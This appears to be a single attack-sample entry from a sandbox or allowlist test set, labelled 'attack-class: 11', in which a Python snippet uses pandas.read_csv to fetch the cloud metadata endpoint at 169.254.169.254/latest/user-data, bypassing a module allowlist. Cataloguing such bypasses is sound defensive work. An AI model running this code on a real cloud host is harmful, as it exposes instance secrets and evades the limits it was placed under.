# attack-class: 11
# title: pandas.read_csv on a metadata URL
# why: pandas fetches http(s) URLs itself, so an allowed module makes a network call

import pandas as pd

df = pd.read_csv("http://169.254.169.254/latest/user-data")
print(df.head())
